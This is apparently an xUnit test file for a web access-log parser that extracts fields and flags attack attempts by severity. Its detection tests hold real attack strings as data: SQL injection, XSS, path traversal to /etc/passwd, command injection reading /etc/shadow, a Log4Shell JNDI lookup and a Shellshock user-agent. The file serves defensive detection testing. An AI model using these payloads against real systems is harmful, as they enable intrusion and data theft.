using SecStream.Stages.Parsing;
using Xunit;

namespace SecStream.Stages.Tests.Parsing;

public sealed class AccessParserTests
{
    [Fact]
    public void Parse_Combined_AllFields()
    {
        var harness = new ParsingHarness();
        Assert.Equal(ParseResult.Event, harness.Parse("203.0.113.7 - alice [22/Dec/2016:15:19:05 +0300] \"GET /a/b?x=1&y=2 HTTP/1.1\" 404 2020 \"http://r/\" \"Mozilla/5.0 (\\\"x\\\")\""));
        Assert.Equal("2016-12-22T12:19:05.000000", harness.Time);
        Assert.Equal(("203.0.113.7", "203.0.113.7", "alice"), (harness["source.address"], harness["source.ip"], harness["user.name"]));
        Assert.Equal(("GET", "/a/b?x=1&y=2", "/a/b", "x=1&y=2", "1.1"),
            (harness["http.request.method"], harness["url.original"], harness["url.path"], harness["url.query"], harness["http.version"]));
        Assert.Equal(("404", "2020", "http://r/", "Mozilla/5.0 (\\\"x\\\")"),
            (harness["http.response.status_code"], harness["http.response.body.bytes"], harness["http.request.referrer"], harness["user_agent.original"]));
        Assert.Equal(("web.access", "web", "http_request", "failure", "low"),
            (harness["event.dataset"], harness["event.category"], harness["event.action"], harness["event.outcome"], harness["secstream.severity"]));
        Assert.Equal("access", harness.Parser.Format);
    }

    [Theory]
    [InlineData("::1 - - [17/May/2015:10:05:03 +0000] \"GET / HTTP/1.0\" 200 -", "::1", "/", "200")]
    [InlineData("host.example - - [17/May/2015:10:05:03 +0000] \"-\" 408 0 \"-\" \"-\"", "host.example", null, "408")]
    [InlineData("\"192.168.4.164 - - [22/Dec/2016:15:19:05 +0300] \"GET /D/ HTTP/1.1\" 200 2020 \"-\" \"M/5\"\"", "192.168.4.164", "/D/", "200")]
    [InlineData("www.example.com:443 203.0.113.7 - - [17/May/2015:10:05:03 +0000] \"GET /x HTTP/2.0\" 200 1 \"-\" \"-\"", "203.0.113.7", "/x", "200")]
    [InlineData("1.2.3.4 - x [17/May/2011:10:05:03 +0000] \\\"GET [17/May/2015:10:05:03 +0000] \"GET /y HTTP/1.1\" 401 1", "1.2.3.4", "/y", "401")]
    [InlineData("1.2.3.4 - - [17/May/2015:10:05:03 +0000] \"\\x16\\x03\\x01\" 400 0 \"-\" \"-\" \"extra\"", "1.2.3.4", "\\x16\\x03\\x01", "400")]
    public void Parse_Variants(string line, string address, string? url, string status)
    {
        var harness = new ParsingHarness();
        Assert.Equal(ParseResult.Event, harness.Parse(line));
        Assert.Equal((address, url, status), (harness["source.address"], harness["url.original"], harness["http.response.status_code"]));
        Assert.Equal("2015-05-17T10:05:03", url == "/D/" ? "2015-05-17T10:05:03" : harness.Time[..19]);
    }

    [Theory]
    [InlineData("[2001:db8::1] - -", "2001:db8::1", null, null)]
    [InlineData("[2001:db8::1]:443 - -", "2001:db8::1", null, null)]
    [InlineData("203.0.113.7:5555 - -", "203.0.113.7", null, null)]
    [InlineData("::ffff:203.0.113.7 - -", "203.0.113.7", null, null)]
    [InlineData("203.0.113.7, 10.0.0.1 - -", "203.0.113.7", null, null)]
    [InlineData("203.0.113.7,10.0.0.1 - bob", "203.0.113.7", "bob", null)]
    [InlineData("203.0.113.7, 10.0.0.1, 10.0.0.2 - bob", "203.0.113.7", "bob", null)]
    [InlineData("www.example.com 203.0.113.7 - -", "203.0.113.7", null, "www.example.com")]
    [InlineData("www.example.com 203.0.113.7 - bob", "203.0.113.7", "bob", "www.example.com")]
    [InlineData("www.example.com:443 2001:db8::1 - bob", "2001:db8::1", "bob", "www.example.com")]
    [InlineData("10.0.0.1:80 203.0.113.7 - -", "203.0.113.7", null, "10.0.0.1")]
    [InlineData("203.0.113.7 ident john smith", "203.0.113.7", "john smith", null)]
    [InlineData("203.0.113.7 - john 8.8.8.8", "203.0.113.7", "john 8.8.8.8", null)]
    [InlineData("203.0.113.7 8.8.8.8 john x", "203.0.113.7", "john x", null)]
    [InlineData("203.0.113.7 - - ", "203.0.113.7", null, null)]
    [InlineData("- - -", null, null, null)]
    public void Parse_Front_ClientUserHost(string front, string? address, string? user, string? host)
    {
        var harness = new ParsingHarness();
        Assert.Equal(ParseResult.Event, harness.Parse($"{front} [17/May/2015:10:05:03 +0000] \"GET / HTTP/1.1\" 200 1 0.005 \"-\" \"M/5\" 12"));
        Assert.Equal((address, user, host, "M/5"), (harness["source.address"], harness["user.name"], harness["url.domain"], harness["user_agent.original"]));
    }

    [Theory]
    [InlineData("1.2.3.4 - - [17/May/2015:10:05:03 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"Mozilla/5.0 (compatible; Goog")]
    [InlineData("1.2.3.4 - - [17/May/2015:10:05:03 +0000] \"GET / HTTP/1.1\" two 1")]
    [InlineData("1.2.3.4 - - [17/May/2015:10:05:03 +0000] \"GET /")]
    public void Parse_Broken_Dead(string line) => Assert.Equal(ParseResult.Dead(ErrorClasses.AccessSyntax), new ParsingHarness().Parse(line));

    [Theory]
    [InlineData("GET /i?id=1%27%20UNION%20SELECT%20a,b%20FROM%20users-- HTTP/1.1", 200, "sql_injection_attempt", "high")]
    [InlineData("GET /i?id=1+or+1=1 HTTP/1.1", 200, "sql_injection_attempt", "high")]
    [InlineData("GET /i?id=1'/**/or/**/'a'='a HTTP/1.1", 200, "sql_injection_attempt", "high")]
    [InlineData("GET /s?q=%253Cscript%253Ealert(1)%253C/script%253E HTTP/1.1", 200, "xss_attempt", "high")]
    [InlineData("GET /s?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E HTTP/1.1", 200, "xss_attempt", "high")]
    [InlineData("GET /?a='or+1=1--<script>alert(1)</script> HTTP/1.1", 200, "sql_injection_attempt", "high")]
    [InlineData("POST /uploads/shell.php HTTP/1.1", 200, "file_upload_security_violation", "high")]
    [InlineData("POST /upload.php HTTP/1.1", 200, "http_request", "low")]
    [InlineData("POST /account HTTP/1.1", 419, "csrf_attempt", "high")]
    [InlineData("GET /../../etc/passwd HTTP/1.1", 404, "suspicious_input_detected", "medium")]
    [InlineData("GET /?f=..%2f..%2f..%2fetc%2fpasswd HTTP/1.1", 200, "suspicious_input_detected", "medium")]
    [InlineData("GET /ping?h=1.1.1.1;cat+/etc/shadow HTTP/1.1", 200, "suspicious_input_detected", "medium")]
    [InlineData("GET /?x=${jndi:ldap://e/a} HTTP/1.1", 200, "suspicious_input_detected", "medium")]
    [InlineData("GET /private HTTP/1.1", 403, "access_denied", "medium")]
    [InlineData("GET /api HTTP/1.1", 429, "rate_limit_exceeded", "medium")]
    [InlineData("GET /search?q=select+a+union+from+the+committee+and+order+by+phone HTTP/1.1", 200, "http_request", "low")]
    [InlineData("GET /search?q=O'Brien+and+sons+(Dublin)+or+Cork HTTP/1.1", 200, "http_request", "low")]
    [InlineData("GET /wiki/C_(programming_language)?a=1;b=2#history HTTP/1.1", 200, "http_request", "low")]
    [InlineData("GET /search?q=rock+%27n%27+roll+%26+blues+%3C3 HTTP/1.1", 200, "http_request", "low")]
    [InlineData("GET /fonts?family=Open+Sans:400,700|Roboto&display=swap HTTP/1.1", 200, "http_request", "low")]
    [InlineData("GET /a.js?v=1.2.3&callback=jQuery123_456&_=789 HTTP/1.1", 304, "http_request", "low")]
    [InlineData("GET /login?next=https%3A%2F%2Fexample.com%2Fhome%3Fa%3D1%26b%3D2 HTTP/1.1", 302, "http_request", "low")]
    [InlineData("GET /.well-known/acme-challenge/xyz HTTP/1.1", 200, "http_request", "low")]
    public void Parse_Request_ActionAndSeverity(string request, int status, string action, string severity)
    {
        var harness = new ParsingHarness();
        harness.Parse($"1.2.3.4 - - [17/May/2015:10:05:03 +0000] \"{request}\" {status} 1 \"-\" \"Mozilla/5.0\"");
        Assert.Equal((action, severity, "web"), (harness["event.action"], harness["secstream.severity"], harness["event.category"]));
    }

    [Theory]
    [InlineData("sqlmap/1.5#stable (http://sqlmap.org)")]
    [InlineData("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)")]
    [InlineData("() { :;}; /bin/bash -c id")]
    public void Parse_ScannerAgent_Suspicious(string agent)
    {
        var harness = new ParsingHarness();
        harness.Parse($"1.2.3.4 - - [17/May/2015:10:05:03 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"{agent}\"");
        Assert.Equal("suspicious_input_detected", harness["event.action"]);
    }
}
